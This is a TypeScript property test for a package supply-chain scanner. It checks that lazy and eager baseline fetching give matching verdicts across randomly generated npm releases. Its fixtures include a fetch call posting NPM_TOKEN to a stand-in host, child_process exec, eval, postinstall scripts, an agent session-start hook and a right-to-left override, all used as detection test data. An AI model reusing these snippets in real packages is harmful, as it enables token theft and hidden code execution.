// The proof that fetching a baseline only when it can matter changes no verdict: random pairs of releases, judged both
// ways with the built-in rules and with rules written to probe the argument in `src/rules/reads.ts`.
import { fileURLToPath } from 'node:url'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { type Baseline, noResemblance } from '../../src/domain/comparison.ts'
import { nowhere } from '../../src/domain/problem.ts'
import type { Finding } from '../../src/domain/report.ts'
import { toAbout } from '../../src/rules/case-about.ts'
import type { CaseAbout, CaseFile, RuleCase } from '../../src/rules/cases.ts'
import { loadPack } from '../../src/rules/load.ts'
import type { ChosenBaseline, Road } from '../../src/scan/assess.ts'
import { assess } from '../../src/scan/assess.ts'
import { readPackFiles } from '../../src/sources/pack-files.ts'
import { releasesOf } from '../support/case-releases.ts'

const now = Date.parse('2026-11-01T12:00:00Z')
const hour = 3_600_000

const probes: readonly (readonly [when: string, find: string])[] = [
  [
    'change.files.exists(f, f.status == "added" && f.reach == "install")',
    'change.files.filter(f, f.status == "added")',
  ],
  ['change.files.exists(f, f.status == "removed")', 'change.files.filter(f, f.status == "removed")'],
  ['change.files.exists(f, f.status == "changed")', 'change.files.filter(f, f.status == "changed")'],
  ['change.files.exists(f, f.status != "kept")', 'change.files.filter(f, f.status != "kept")'],
  ['change.files.exists(f, f.status == "added" && f.firstOfType)', 'change.files.filter(f, f.firstOfType)'],
  ['change.files.exists(f, f.status != "removed" && f.lineFactor >= 5)', 'change.files.filter(f, f.grown > 0)'],
  ['change.files.exists(f, f.status == "added" && !f.firstOfType)', '[change.content]'],
  ['change.files.exists(f, f.status != "removed" && f.grown > 100 && f.factor >= 5)', '[change.package]'],
  ['change.files.exists(f, f.status == "changed" && f.startsOnOpen && f.role == "agent")', 'change.files'],
  ['change.content.grown > 100 && change.content.factor >= 5', '[change.content]'],
  ['change.content.bytesBefore > 100 || change.content.filesBefore == 1', '[change.content]'],
  ['change.oddities.exists(o, o.status == "added" && o.kind == "undeclared-bundle")', 'change.oddities'],
  ['change.bins.exists(b, b.status == "added" && b.shadows == "runtime")', 'change.bins'],
  ['change.bins.exists(b, b.pathBefore != "" && b.path != b.pathBefore)', 'change.bins'],
  ['change.bins.exists(b, b.status == "removed")', 'change.bins.filter(b, b.status == "removed")'],
  ['size(change.directives) == 0 && change.bins.exists(b, b.status == "changed")', '[change.package]'],
  [
    'change.dependencies.exists(d, d.kind != "registry" && (d.status == "added" || (d.status == "changed" && d.kindBefore == "registry")))',
    'change.dependencies.filter(d, d.kindBefore == "registry")',
  ],
  ['change.dependencies.exists(d, d.kindBefore == "none")', 'change.dependencies'],
  ['change.scripts.exists(s, s.reachesNew > 0)', 'change.scripts.filter(s, s.reachesNew > 0)'],
  ['!change.scripts.exists(s, s.status == "added")', '[change.package]'],
  ['change.scripts.all(s, s.status == "added")', '[change.package]'],
  ['size(change.dependencies.filter(d, d.status == "added")) > 1', 'change.dependencies'],
  ['size(change.dependencies.filter(d, d.status == "added")) == 1', 'change.dependencies'],
  ['change.dependencies.exists_one(d, d.status == "added")', 'change.dependencies'],
  ['change.scripts.exists(s, s.bodyBefore != "" && s.body != s.bodyBefore)', 'change.scripts'],
  [
    'change.lookalike.kind == "none" && change.dependencies.exists(d, d.status == "added" && d.lookalike == "none")',
    '[change.lookalike]',
  ],
  ['change.publication.number == "ordinary" && change.publication.dayLines >= 1', '[change.publication]'],
  [
    'change.dependencies.exists(d, d.status == "added") && change.publication.publisher == "changed"',
    '[change.publication]',
  ],
  ['change.patches.exists(p, p.status == "added")', 'change.patches'],
  ['change.patches.exists(p, p.status == "removed")', 'change.patches'],
  ['change.patches.exists(p, p.status != "kept" && p.changesInstall)', 'change.patches'],
  ['size(change.patches) == 0', '[change.package]'],
  ['change.capabilities.exists(c, c.status == "added" && c.name == "shell")', 'change.capabilities'],
  ['change.capabilities.exists(c, c.status == "changed" && c.reach == "install")', 'change.capabilities'],
  [
    'change.capabilities.exists(c, c.status != "removed" && c.name == "eval" && c.reach == "import")',
    '[change.package]',
  ],
  ['change.capabilities.exists(c, c.reachBefore == "import")', 'change.capabilities'],
  ['change.arguments.exists(a, a.status == "added" && !a.resolved)', 'change.arguments'],
  ['change.arguments.exists(a, a.status == "removed")', 'change.arguments.filter(a, a.status == "removed")'],
  [
    'change.flows.exists(f, f.status == "added" && f.source == "secret")',
    'change.flows.filter(f, f.status == "added")',
  ],
  ['change.disguises.exists(d, d.status != "kept" && d.files > d.filesBefore)', 'change.disguises'],
  ['change.indicators.exists(i, i.status == "added" && i.kind == "host")', 'change.indicators'],
  ['!change.indicators.exists(i, i.status == "added")', '[change.package]'],
  ['change.unreadable.exists(u, u.status == "added")', 'change.unreadable.filter(u, u.status == "added")'],
  ['change.unreadable.exists(u, u.status == "changed" && u.reach == "none")', 'change.unreadable'],
]

const probePack = [
  { path: 'pack.yml', text: 'name: probes\nversion: 1.0.0\nfor: the proof\nowner: tests\ncordon: ">=0.1.0"\n' },
  ...probes.map(([when, find], index) => ({
    path: `probe-${index}.yml`,
    text: [
      `id: probe-${index}`,
      'title: probe',
      'outcome: block',
      'status: stable',
      `when: '${when}'`,
      `find: '${find}'`,
      'why: probe',
      'fix: probe',
      'quiet: probe',
      'cases:',
      '  - { name: a, expect: fires, before: nothing, after: { package.json: { name: a, version: 1.0.0 } } }',
      '  - { name: b, expect: quiet, before: nothing, after: { package.json: { name: a, version: 1.0.0 } } }',
      '',
    ].join('\n'),
  })),
]

const core = loadPack(
  await readPackFiles(fileURLToPath(new URL('../../rules/core', import.meta.url)), 'nothing'),
  'nothing',
)
const rules = [...core.rules, ...loadPack(probePack, 'nothing').rules]

const specs = ['^1.0.0', '^2.0.0', 'npm:other@1', 'github:eve/tiny#0123456789', 'http://files.example.test/a.tgz']
const long = `// ${'x'.repeat(3000)}`
const hooks = '{ "hooks": { "SessionStart": [{ "command": "node a.js" }] } }'
const codes = [
  "require('child_process').exec(command)",
  'eval(a)',
  'function (',
  "fetch('https://a.example.test/x', { body: process.env.NPM_TOKEN })",
  '// \u202e turned around',
]
const bodies = [
  ...['module.exports = 1', "require('./b.js')", "require('young')", '// nothing', long, '\x7fELF\0', hooks],
  ...codes,
]
const paths = [
  ...['a.js', 'b.js', 'package.md', 'binding.gyp', 'c.node', '.claude/settings.json', 'A.js'],
  ...['node_modules/b/package.json', 'vendor/package.json'],
]
const tree = (version: string): fc.Arbitrary<readonly CaseFile[]> =>
  fc
    .record({
      scripts: fc.dictionary(
        fc.constantFrom('postinstall', 'install', 'test'),
        fc.constantFrom('node a.js', 'node b.js'),
        {
          maxKeys: 2,
        },
      ),
      dependencies: fc.dictionary(fc.constantFrom('young', 'native', 'old'), fc.constantFrom(...specs), {
        maxKeys: 3,
      }),
      files: fc.dictionary(fc.constantFrom(...paths), fc.constantFrom(...bodies), { maxKeys: 4 }),
      bin: fc.dictionary(fc.constantFrom('tiny', 'node'), fc.constantFrom('a.js', 'b.js'), { maxKeys: 2 }),
      decoy: fc.boolean(),
    })
    .map(({ scripts, dependencies, files, bin, decoy }) => [
      { path: 'package.json', text: JSON.stringify({ name: 'tiny', version, scripts, dependencies, bin }) },
      ...Object.entries(files).map(([path, text]) => ({ path, text })),
      ...(decoy ? [{ path: 'other.md', text: '{"name":"tiny","version":"0.0.1"}' }] : []),
    ])

const patchOf: fc.Arbitrary<CaseAbout['patch']> = fc.constantFrom('none', 'none', 'a.js', 'b.js').map((path) => {
  return path === 'none' ? path : { files: [{ path, text: '// patched' }] }
})

const about: fc.Arbitrary<CaseAbout> = fc
  .record({
    days: fc.constantFrom(0.5, 5, 400),
    young: fc.constantFrom(0.5, 400),
    script: fc.boolean(),
    other: fc.boolean(),
    patch: patchOf,
    patchBefore: patchOf,
  })
  .map(({ days, young, script, other, patch, patchBefore }) => {
    const ordinary = toAbout(undefined)
    const name = { status: 'known', value: { name: other ? 'eve' : 'ada', email: 'ada@example.test' } } as const
    const newcomer = {
      name: 'young',
      history: 'known',
      resolvedVersion: '1.0.0',
      resolvedPublishedAt: now - young * 24 * hour,
      createdAt: now - young * 24 * hour,
      releases: 2,
      hasInstallScript: script ? 'yes' : 'no',
      publisher: other ? 'eve' : 'mallory',
      newToTree: 'yes',
      resemblance: noResemblance,
    } as const
    const published = { status: 'known', value: now - days * 24 * hour } as const
    const patched = { patch, kind: patch === 'none' ? ordinary.kind : 'patched' } as const
    const before = { ...ordinary.before, patch: patchBefore }
    return { ...ordinary, ...patched, before, now, published, publisher: name, newcomers: [newcomer] }
  })

test('lazy and eager judging agree', { timeout: 120_000 }, async () => {
  let quiet = 0
  let fired = 0
  const example = fc.record({
    before: tree('1.0.0'),
    older: tree('0.9.0'),
    ancient: tree('0.1.0'),
    anchored: fc.boolean(),
    after: tree('1.0.1'),
    about,
    sound: fc.boolean(),
    probe: fc.subarray([...rules], { minLength: 1 }),
  })
  await fc.assert(
    fc.asyncProperty(example, async ({ before, older, ancient, anchored, after, about, sound, probe }) => {
      const { candidate, baseline } = releasesOf(toCase(before, after, about))
      const fallback = releasesOf(toCase(older, after, about)).baseline
      const oldest = releasesOf(toCase(ancient, after, about)).baseline
      const road: Road = {
        chosen: [choose(baseline, sound), choose(fallback, true)],
        anchor: anchored ? choose(oldest, true) : 'none',
        detour: 'none',
      }
      const lazy = await assess(candidate, road, probe, now, false)
      const eager = await assess(candidate, road, probe, now, true)
      expect(serious(lazy.findings)).toEqual(serious(eager.findings))
      expect(lazy.unchecked).toEqual(eager.unchecked)
      if (eager.findings.length === 0) quiet++
      else fired++
    }),
    { numRuns: 1000, seed: 20261122 },
  )
  // A proof over examples that never fire, or always do, would prove nothing.
  expect(Math.min(quiet, fired)).toBeGreaterThan(50)
})

/** Notes change no verdict and are only made where the baseline is at hand. */
function serious(findings: readonly Finding[]): Finding[] {
  return findings.filter((finding) => finding.outcome !== 'note')
}

function toCase(before: readonly CaseFile[], after: readonly CaseFile[], about: CaseAbout): RuleCase {
  const trees = { before: { files: before }, after: { files: after } }
  return { name: '', expect: 'quiet', finds: 'any', ...trees, about, place: nowhere }
}

function choose(baseline: Baseline, sound: boolean): ChosenBaseline {
  return {
    status: 'history',
    version: baseline.version,
    load: async () => ({ ok: true, value: baseline }),
    isSound: async () => sound,
  }
}
